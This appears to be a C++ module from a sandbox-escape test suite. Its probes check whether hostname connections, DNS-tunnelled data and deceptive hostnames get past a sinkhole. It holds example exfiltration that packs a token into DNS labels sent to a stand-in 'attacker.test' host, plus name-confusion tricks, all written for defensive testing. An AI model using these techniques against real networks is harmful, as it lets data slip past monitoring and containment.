// SPDX-License-Identifier: Apache-2.0
// Names: resolving and then connecting, tunnels in questions, names that fool a check (N2, N4,
// N19).
#include "names.hpp"

#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <unistd.h>

#include <cerrno>

namespace cloister::probe {
namespace {

constexpr std::uint16_t question_id = 0x4c43;

std::string question(const std::vector<std::string>& labels) {
  std::string text{"\x4c\x43\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12};
  for (const std::string& label : labels) {
    text.push_back(static_cast<char>(label.size()));
    text += label;
  }
  text.append("\x00\x00\x01\x00\x01", 5);  // end, type A, class IN
  return text;
}

// The first address record of an answer whose question is as long as ours.
std::string address_in(std::string_view answer, std::size_t question_size) {
  auto byte = [&](std::size_t at) { return static_cast<unsigned char>(answer[at]); };
  if (answer.size() < question_size + 16 || byte(0) != (question_id >> 8)) return {};
  std::size_t at = question_size;  // a compressed name (2), type, class, time to live, size
  if (byte(at + 3) != 1 || byte(at + 11) != 4) return {};
  char text[INET_ADDRSTRLEN];
  in_addr address;
  __builtin_memcpy(&address, answer.data() + at + 12, 4);
  return inet_ntop(AF_INET, &address, text, sizeof text);
}

std::string token_label(const Fixtures& fixtures) {
  return fixtures.text("token").substr(0, 60);
}

// What a program does with a name: asks, then connects to what the answer says.
Verdict connect_by_name(const Fixtures& fixtures, const std::vector<std::string>& labels) {
  auto server = configured_nameserver();
  if (!server) return blocked("/etc/resolv.conf names no server", ENOENT);
  auto address = ask_udp(*server, labels);
  if (!address) return blocked("no answer to the question");
  if (address->empty()) return blocked("the answer holds no address", ENOENT);
  Verdict verdict = say_to(inet(*address, fixtures.number("tcp_port")), SOCK_STREAM, fixtures);
  verdict.detail += " (" + *address + ")";
  return verdict;
}

Verdict by_name(const Fixtures& fixtures) {
  return connect_by_name(fixtures, labels_of("www.evil.example.com"));
}

// The outside's listeners are the witness of whether a name went beyond the sinkhole; here the
// answer tells who gave it.
Verdict tunnel(const Fixtures& fixtures,
               std::optional<std::string> (*ask)(const std::string&,
                                                 const std::vector<std::string>&)) {
  auto server = configured_nameserver();
  if (!server) return blocked("/etc/resolv.conf names no server", ENOENT);
  auto address = ask(*server, {token_label(fixtures), "tunnel", "attacker", "test"});
  if (!address) return blocked("no answer to the question");
  if (*address == fixtures.text("outside4")) return open("the outside's name server answered");
  return within("answered by the cell's own sinkhole: " + *address);
}

Verdict tunnel_udp(const Fixtures& fixtures) {
  return tunnel(fixtures, ask_udp);
}

Verdict tunnel_tcp(const Fixtures& fixtures) {
  return tunnel(fixtures, ask_tcp);
}

// The tunnel without the configured server: straight to the machine's resolver.
Verdict tunnel_direct(const Fixtures& fixtures) {
  auto address =
      ask_udp(fixtures.text("resolver"), {token_label(fixtures), "tunnel", "attacker", "test"});
  if (!address) return blocked("no answer to the question");
  return open("the outside's name server answered");
}

Verdict name_with_nul(const Fixtures& fixtures) {
  return connect_by_name(fixtures, {std::string("evil\0", 5), "localhost"});
}

Verdict name_with_trailing_dot(const Fixtures& fixtures) {
  return connect_by_name(fixtures, {"localhost."});
}

Verdict name_with_international_letters(const Fixtures& fixtures) {
  return connect_by_name(fixtures, labels_of("xn--lcalhost-n4a.example.com"));
}

Verdict name_in_upper_case(const Fixtures& fixtures) {
  return connect_by_name(fixtures, labels_of("WWW.EVIL.EXAMPLE.COM"));
}

Verdict name_with_at(const Fixtures& fixtures) {
  return connect_by_name(fixtures, {"localhost@evil", "example", "com"});
}

constexpr Probe probes[] = {
    {"N2-name", "TCP to a host by its name", by_name},
    {"N4-tunnel-udp", "Data in the labels of a DNS question", tunnel_udp},
    {"N4-tunnel-tcp", "Data in a DNS question over TCP", tunnel_tcp},
    {"N4-tunnel-direct", "Data in a DNS question to the machine's resolver", tunnel_direct},
    {"N19-nul", "A name with a NUL in a label", name_with_nul},
    {"N19-trailing-dot", "A name whose label ends in a dot", name_with_trailing_dot},
    {"N19-international", "A name that looks like another", name_with_international_letters},
    {"N19-upper-case", "A name in upper case", name_in_upper_case},
    {"N19-at", "A name with an @ in a label", name_with_at},
};

}  // namespace

std::optional<std::string> configured_nameserver() {
  int file = ::open("/etc/resolv.conf", O_RDONLY | O_CLOEXEC);
  if (file < 0) return std::nullopt;
  std::string content = read_up_to(file, 8192);
  ::close(file);
  constexpr std::string_view word = "nameserver ";
  std::size_t at = content.find(word);
  if (at == content.npos) return std::nullopt;
  at += word.size();
  return content.substr(at, content.find_first_of(" \t\n", at) - at);
}

std::optional<std::string> ask_udp(const std::string& server,
                                   const std::vector<std::string>& labels) {
  Socket socket(AF_INET, SOCK_DGRAM);
  std::string text = question(labels);
  Address to = inet(server, 53);
  if (!socket.made() || sendto(socket.number(), text.data(), text.size(), 0, to.get(), to.size) < 0)
    return std::nullopt;
  pollfd wanted{.fd = socket.number(), .events = POLLIN, .revents = 0};
  if (poll(&wanted, 1, answer_wait_ms) != 1) {
    errno = ETIMEDOUT;
    return std::nullopt;
  }
  char answer[1500];
  ssize_t size = recv(socket.number(), answer, sizeof answer, 0);
  if (size < 0) return std::nullopt;
  return address_in({answer, static_cast<std::size_t>(size)}, text.size());
}

std::optional<std::string> ask_tcp(const std::string& server,
                                   const std::vector<std::string>& labels) {
  Socket socket(AF_INET, SOCK_STREAM);
  Address to = inet(server, 53);
  if (!socket.made() || connect(socket.number(), to.get(), to.size) != 0) return std::nullopt;
  std::string text = question(labels);
  std::string framed{static_cast<char>(text.size() >> 8), static_cast<char>(text.size() & 0xff)};
  framed += text;
  if (send(socket.number(), framed.data(), framed.size(), MSG_NOSIGNAL) < 0) return std::nullopt;
  pollfd wanted{.fd = socket.number(), .events = POLLIN, .revents = 0};
  if (poll(&wanted, 1, answer_wait_ms) != 1) {
    errno = ETIMEDOUT;
    return std::nullopt;
  }
  char answer[1500];
  ssize_t size = recv(socket.number(), answer, sizeof answer, 0);
  if (size <= 2) {
    errno = ECONNRESET;
    return std::nullopt;
  }
  return address_in({answer + 2, static_cast<std::size_t>(size - 2)}, text.size());
}

std::vector<std::string> labels_of(const std::string& name) {
  std::vector<std::string> labels;
  std::size_t at = 0;
  while (at < name.size()) {
    std::size_t dot = std::min(name.find('.', at), name.size());
    labels.push_back(name.substr(at, dot - at));
    at = dot + 1;
  }
  return labels;
}

Family name_family() {
  return {"names", probes};
}

}  // namespace cloister::probe
